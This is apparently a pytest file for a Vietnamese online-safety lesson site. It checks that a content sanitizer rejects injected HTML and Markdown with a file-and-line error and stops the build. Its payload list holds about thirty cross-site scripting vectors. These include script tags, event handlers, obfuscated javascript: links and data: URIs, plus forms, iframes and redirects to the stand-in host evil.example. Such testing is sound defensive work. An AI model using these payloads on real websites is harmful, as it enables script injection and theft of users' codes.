"""Content is untrusted input: code hidden in a lesson never reaches a reader's phone.

Every payload below, put in a lesson, is refused with `file:line: what is not allowed`; what our
lessons legitimately write (admonitions, task lists, tables, abbreviations, links) passes.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from conftest import build

import sanitize

LESSON = "content/lessons/nhan-dien-lua-dao-truc-tuyen.vi.md"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnError="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "[bấm vào đây](javascript:alert(1))",
    "[bấm vào đây](JaVaScRiPt:alert(1))",
    "[bấm vào đây](&#106;avascript:alert(1))",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<img src="java\tscript:alert(1)">',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![ảnh](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x">',
    '<form action="https://evil.example"><input name="otp"></form>',
    '<input type="text" autofocus onfocus=alert(1)>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div onclick="alert(1)">x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<base href="https://evil.example/">',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_injection_payload_is_refused_with_its_line(payload):
    body = "## Các bước\n\nĐoạn bình thường.\n\n" + payload + "\n\nĐoạn sau.\n"
    found = sanitize.problems(Path(LESSON), body, 20)
    assert found, f"not refused: {payload!r}"
    assert all(line == 24 for _, line, _ in found), found  # the payload's own line (20 + 4)


def test_what_lessons_legitimately_write_passes():
    body = ("- [x] Đúng\n- [ ] Sai\n\n| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n"
            "<abbr title=\"Mã dùng một lần\">OTP</abbr> <kbd>Ctrl</kbd> <sup>2</sup>\n\n"
            "!!! tip \"Mẹo\"\n    Chữ [liên kết](https://dichvucong.gov.vn) ![ảnh](/assets/images/x.svg)\n\n"
            "<details open><summary>Xem</summary>Nội dung</details>\n\n"
            "[Gọi 113](tel:113) · [thư](mailto:a@b.vn) · [bài khác](/bai-hoc/cai-dat-vneid.md)\n")
    assert sanitize.problems(Path(LESSON), body, 1) == []


def test_a_script_in_a_lesson_fails_the_check_with_file_and_line(project):
    path = project / LESSON
    text = path.read_text(encoding="utf-8").replace("## Thực hành\n", "## Thực hành\n\n<img src=x onerror=alert(1)>\n", 1)
    path.write_text(text, encoding="utf-8")
    line = text.splitlines().index("<img src=x onerror=alert(1)>") + 1
    result = subprocess.run([sys.executable, "scripts/check_content.py"], cwd=project, capture_output=True, text=True)
    assert result.returncode == 1
    assert f"{LESSON}:{line}: error: attribute onerror= on <img> is not allowed" in result.stdout, result.stdout


def test_a_javascript_link_stops_the_build(project):
    path = project / LESSON
    text = path.read_text(encoding="utf-8").replace("## Thực hành\n", "## Thực hành\n\n[Nhận quà](javascript:alert(1))\n", 1)
    path.write_text(text, encoding="utf-8")
    result, out = build(project)
    assert result.returncode != 0
    assert f"{LESSON}:" in result.stdout + result.stderr and "javascript:alert(1)" in result.stdout + result.stderr
    assert not out.exists()
